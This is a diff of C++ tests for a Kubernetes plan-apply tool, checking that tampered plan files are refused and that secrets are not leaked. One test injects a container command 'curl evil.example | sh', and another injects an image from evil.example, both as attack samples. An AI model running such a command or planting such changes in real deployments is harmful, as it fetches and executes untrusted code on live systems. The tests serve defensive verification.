@@ -9,6 +9,7 @@
 
 #include "support/apply_fixture.h"
 #include "support/cli_run.h"
+#include "support/example_objects.h"
 
 using namespace synops;
 using namespace synops::testing;
@@ -16,8 +17,6 @@ namespace fs = std::filesystem;
 
 namespace {
 
-const ObjectRef kMain{"StatefulSet", "matrix", "synapse-main"};
-const std::string kImage = "/spec/template/spec/containers/0/image";
 const std::string kPasswordCanary = "CANARY-db-password-9c1f";
 
 struct SavedPlan {
@@ -39,7 +38,7 @@ SavedPlan save_plan(const ApplyWorld& world, const ApplyPostgres& postgres) {
 
 void rewrite(const SavedPlan& saved, const nlohmann::json& document) { std::ofstream(saved.file) << document.dump(2); }
 
-nlohmann::json& step_of(nlohmann::json& document, const std::string& key) {
+nlohmann::json& step_entry(nlohmann::json& document, const std::string& key) {
   for (auto& step : document["actions"])
     if (step["key"] == key) return step;
   FAIL("no step " << key);
@@ -54,7 +53,7 @@ TEST_CASE("plan file trust: a change added to a step (main's command) is refused
   ApplyWorld world;
   SavedPlan saved = save_plan(world, postgres);
   nlohmann::json edited = saved.document;
-  auto& main_update = step_of(edited, "update StatefulSet/matrix/synapse-main");
+  auto& main_update = step_entry(edited, "update StatefulSet/matrix/synapse-main");
   main_update["changes"].push_back({{"path", "/spec/template/spec/containers/0/command"},
                                     {"before", nullptr},
                                     {"after", {"sh", "-c", "curl evil.example | sh"}},
@@ -65,24 +64,24 @@ TEST_CASE("plan file trust: a change added to a step (main's command) is refused
   CHECK(refused.err.find("(update StatefulSet/matrix/synapse-main) writes /spec/template/spec/containers/0/command, which the "
                          "manifests do not ask for") != std::string::npos);
   CHECK(refused.err.find("curl evil.example") == std::string::npos);
-  CHECK(world.live_value(kMain, "/spec/template/spec/containers/0/command").is_null());
-  CHECK(world.live_value(kMain, kImage) == "matrixdotorg/synapse:v1.119.0");
+  CHECK(world.live_value(kMainStatefulSet, "/spec/template/spec/containers/0/command").is_null());
+  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
 
   // Another value for a field the manifests do own is refused the same way.
   nlohmann::json retagged = saved.document;
-  for (auto& change : step_of(retagged, "update StatefulSet/matrix/synapse-main")["changes"])
-    if (change["path"] == kImage) change["after"] = "evil.example/synapse:latest";
+  for (auto& change : step_entry(retagged, "update StatefulSet/matrix/synapse-main")["changes"])
+    if (change["path"] == kContainerImage) change["after"] = "evil.example/synapse:latest";
   rewrite(saved, retagged);
   const auto other_value = run_cli(concat({"apply", saved.file.string()}, cluster_args(world)));
   CHECK_MESSAGE(other_value.code == 3, other_value.err);
-  CHECK(other_value.err.find("writes " + kImage + " otherwise than the manifests ask") != std::string::npos);
-  CHECK(world.live_value(kMain, kImage) == "matrixdotorg/synapse:v1.119.0");
+  CHECK(other_value.err.find("writes " + kContainerImage + " otherwise than the manifests ask") != std::string::npos);
+  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
 
   // The file as synops wrote it applies.
   rewrite(saved, saved.document);
   const auto applied = run_cli(concat({"apply", saved.file.string()}, cluster_args(world)));
   CHECK_MESSAGE(applied.code == 0, applied.err);
-  CHECK(world.live_value(kMain, kImage) == "matrixdotorg/synapse:v1.120.0");
+  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.120.0");
 }
 
 TEST_CASE("plan file trust: a step on a Secret is refused, and the Secret's live value is never printed") {
@@ -112,7 +111,7 @@ TEST_CASE("plan file trust: a step on a Secret is refused, and the Secret's live
         std::string::npos);
   CHECK(refused.err.find(kPasswordCanary) == std::string::npos);
   CHECK(refused.err.find("attacker") == std::string::npos);
-  CHECK(world.live_value(kMain, kImage) == "matrixdotorg/synapse:v1.119.0");
+  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
   const auto shown = run_cli({"show", saved.file.string()});
   CHECK(shown.err.find(kPasswordCanary) == std::string::npos);
 }
@@ -128,5 +127,5 @@ TEST_CASE("plan file trust: a plan file away from its manifests is not applied")
   const auto refused = run_cli(concat({"apply", alone.string()}, cluster_args(world)));
   CHECK_MESSAGE(refused.code == 1, refused.err);
   CHECK(refused.err.find("a plan file is applied only together with the manifests it was made from") != std::string::npos);
-  CHECK(world.live_value(kMain, kImage) == "matrixdotorg/synapse:v1.119.0");
+  CHECK(world.live_value(kMainStatefulSet, kContainerImage) == "matrixdotorg/synapse:v1.119.0");
 }
